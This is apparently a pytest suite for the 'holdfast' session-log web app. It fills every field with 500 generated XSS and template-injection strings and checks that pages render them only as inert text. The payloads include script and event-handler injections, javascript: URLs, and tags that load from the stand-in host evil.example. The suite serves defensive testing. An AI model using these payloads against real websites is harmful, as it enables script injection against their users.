"""Text that attacks the reader: 500 strings through every field, in a real browser."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import islice, product
from urllib.parse import quote

import msgspec
import pytest

import holdfast
from holdfast.apps.web._page import as_html
from holdfast.model import is_id

RUN = "parent.__hit=1;alert(1)"
_TAGS = """img src=x|svg|body|video src=x|details open|iframe src=x|input autofocus|audio src=x
|object data=x|marquee|math|form|button|a href=x""".replace("\n", "").split("|")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</pre>", "-->", "]]>", "</script>")
_URLS = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "&#106;avascript:"),
    *("data:text/html,<script>", "vbscript:", "//evil.example/", "https://evil.example/x.png"),
)


def hostile():
    """Strings that run or load something where they are taken for markup."""
    for breaks in _BREAKS:
        yield f"{breaks}<script>{RUN}</script>"
        yield f"{breaks}<script src=//evil.example/x.js></script>"
        yield f"{breaks}<style>*{{background:url(//evil.example/s)}}</style>"
        yield f"{breaks}<base href=//evil.example/>"
        yield f"{breaks}<meta http-equiv=refresh content='0;url=//evil.example'>"
        yield f"{breaks}<link rel=stylesheet href=//evil.example/x.css>"
    for url in _URLS:
        yield f"[click]({url}{RUN})"
        yield f"![picture]({url}{RUN})"
        yield f"<{url}{RUN}>"
        yield f"[a][b]\n\n[b]: {url}{RUN}"
        yield f"<a href='{url}{RUN}'>x</a>"
        yield f"<iframe srcdoc='<script>{RUN}</script>' src='{url}'>"
    yield from (f"{{{{ {code} }}}}" for code in ("7*7", "config", "''.__class__", "x|safe"))
    yield from (f"{{% {code} %}}" for code in ("include 'base.html'", "import os", "raw"))
    yield from ("\u202e<b>gnp.exe", "\x1b]8;;https://evil.example\x07x", "\x7f<b>", "\ud83d\ude00"[:0])
    yield from (f'" {event}="{RUN}" x="' for event in _EVENTS)
    yield from (f"' {event}='{RUN}' x='" for event in _EVENTS)
    yield from (f"data-{name}" for name in ("get", "part", "typed", "revealed"))
    yield f"<a data-get=/trash data-replace=body data-revealed onload='{RUN}'>"
    yield "<form data-part=body data-typed=input data-live=/x data-go=j autofocus>"
    for breaks, tag, event in product(_BREAKS, _TAGS, _EVENTS):
        yield f"{breaks}<{tag} {event}={RUN}>"


STRINGS = list(islice((text for text in hostile() if text), 500))
PARTS = 5


class Forged:
    """A library whose rows claim what no session of ours can: a log of others may say anything."""

    def __init__(self, hf):
        self._hf = hf

    def __getattr__(self, name):
        return getattr(self._hf, name)

    def info(self, id):
        """The row, with the title in every field."""
        return forged(self._hf.info(id))

    def list(self, *args, **more):
        """The same for many."""
        page = self._hf.list(*args, **more)
        page[:] = [forged(row) for row in page]
        return page


def forged(row):
    """A row with its title in every field that has words."""
    text = row.title
    words = dict.fromkeys(("agent_id", "model", "cwd", "status"), text)
    return msgspec.structs.replace(row, **words, tags=(text,), auto_tags=(text + "x",))


@pytest.fixture(scope="module")
def library():
    """Every string in every field: 500 sessions by their names, and five full of the rest."""
    with holdfast.open("memory:") as hf:
        for number, text in enumerate(STRINGS):
            with hf.session(f"s{number:03}", title=text) as s:
                s.append("metadata", {"cwd": text, "pinned": number % 2 == 0})
                s.tag(text[:200].strip() or "x")
                s.append("assistant", {"content": "ok", "model": text, "agent": text})
        for part in range(PARTS):
            _fill(hf, f"full-{part}", STRINGS[part::PARTS])
        hf.fork("full-0", 40, new_id="full-fork", title=STRINGS[0])
        with hf.session("full-fork") as s:
            s.user(STRINGS[1])
            s.variables["x"] = STRINGS[2]
        yield Forged(hf)


def _fill(hf, id, texts):
    with hf.session(id, title=texts[0]) as s:
        for text in texts:
            s.user(text)
            s.append("assistant", {"content": text, "agent": text, "model": text})
            s.thinking(text)
            call = s.tool_call(text, {text: text, "path": text})
            s.tool_result(call, {"content": text}, is_error=len(text) % 2 == 0)
            s.append("agent_error", {"error": text, "agent": text})
        for text in texts[::5]:
            s.append(f"x-{len(text)}", {text: text})
            s.tool_result(s.tool_call("t", {}), [{"type": "text", "text": text}, {"type": text}])
            s.append("interrupted", {"reason": text})
            s.append("delegation", {"parent": text, "child": text, "task": text})
        for text in texts:
            s.variables[text] = text
            s.memory.set(text[:200], text, description=text)
        todos = [{"content": text, "status": text} for text in texts]
        s.append("todo_update", {"todos": todos})
        s.append("metadata", {text: text for text in texts})
        s.append("user", {"content": [
            {"type": "image", "source": {"media_type": text, "data": "PHN2Zz4="}} for text in texts
        ]})  # fmt: skip


@pytest.fixture(scope="module")
def window(visit, library):
    """A browser that came in; everything it meets is judged at the end."""
    with visit(library) as (page, watch):
        yield page, watch


def look(window, url):
    """A page, with everything unfolded and every field pointed at."""
    page, _ = window
    page.goto(url)
    unfold(window)
    return page


def unfold(window):
    """Everything that is on the page, as if someone had looked at each of it."""
    page, watch = window
    page.evaluate(
        "() => { for (const one of document.querySelectorAll('details')) one.open = true;"
        " for (const one of document.querySelectorAll('main *')) {"
        " one.dispatchEvent(new Event('mouseover')); } }"
    )
    watch.check(page)


def test_there_are_enough():
    """Five hundred, all different."""
    assert len(set(STRINGS)) == 500


def test_lists(window):
    """Titles, tags, agents and models in the list, in search and among figures: text only."""
    page = look(window, "/")
    shown = set()
    url = "/"
    while url:
        page = look(window, url)
        shown |= set(page.locator(".row-title").all_inner_texts())
        more = page.locator(".more a")
        url = more.get_attribute("href") if more.count() else None
    assert len(shown) > 450  # some are shown alike
    look(window, "/?q=script")
    look(window, "/activity?range=all")
    look(window, "/store")


@pytest.mark.parametrize("part", range(PARTS))
def test_sessions(window, part):
    """Messages, thoughts, tools, results, errors, memory and variables: text only."""
    page = look(window, f"/s/full-{part}")
    while page.locator("#entries .more a").count():
        seen = page.locator("[data-item]").count()
        page.locator("#entries .more a").click()
        while page.locator("[data-item]").count() == seen:
            page.wait_for_timeout(20)
    assert page.locator("article.user").count() == 101
    unfold(window)
    look(window, f"/s/full-{part}/timeline")
    look(window, f"/s/full-{part}/state")


def test_branches_and_differences(window):
    """The same for the graph, two sessions side by side, and two moments."""
    look(window, "/s/full-0/branches")
    look(window, "/compare?a=full-0&b=full-fork")
    look(window, "/compare?a=full-1&b=full-2")
    look(window, "/s/full-0/state?at=300&since=3")
    look(window, "/s/full-0/health")


class Markup(HTMLParser):
    """What a page is made of."""

    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attrs):
        """Nothing but our own elements."""
        values = dict(attrs)
        if any(name.startswith("on") or name in ("style", "srcdoc") for name in values):
            self.wrong.append((tag, attrs))
        if tag in ("iframe", "object", "embed", "base", "style", "frame", "applet", "math"):
            self.wrong.append((tag, attrs))
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.wrong.append((tag, attrs))
        for name in ("href", "src", "action", "data-get"):
            url = (values.get(name) or "/").strip()
            if not url.startswith(("/", "#", "https://evil.example", "mailto:")):
                self.wrong.append((tag, attrs))
        if tag in ("img", "link") and not (values.get("src") or values["href"]).startswith("/"):
            self.wrong.append((tag, attrs))


def check(response, status=200):
    """The page has the expected status, and nothing that we did not make."""
    assert response.status_code == status
    parsed = Markup()
    parsed.feed(response.text)
    assert parsed.wrong == []


def test_every_title_on_its_own_page(library, site, visitor):
    """Each string as title and tag of a session: in text, attributes and the page's title."""
    site.hf = library
    for number in range(len(STRINGS)):
        check(visitor.get(f"/s/s{number:03}/event/2"))


def test_every_string_asked_for(site, visitor):
    """As a search, a filter, an id, a position, a file name: an answer, never a failure of ours."""
    for text in STRINGS[::9]:
        asked = quote(text, safe="")
        check(visitor.get(f"/?q={asked}"))
        check(visitor.get(f"/?tag={asked}&agent={asked}&age={asked}&sort={asked}"))
        id = text.replace("/", "")
        check(visitor.get(f"/s/{quote(id, safe='')}/timeline"), 404 if is_id(id) or not id else 400)
        check(visitor.get(f"/compare?a={asked}&b={asked}"), 404 if is_id(text) else 400)


@pytest.mark.parametrize("text", STRINGS[::7])
def test_markdown_makes_only_its_own_elements(text):
    """Whatever a message holds, no attribute or address of its own making comes out."""
    parsed = Markup()
    parsed.feed(str(as_html(text)))
    assert parsed.wrong == []
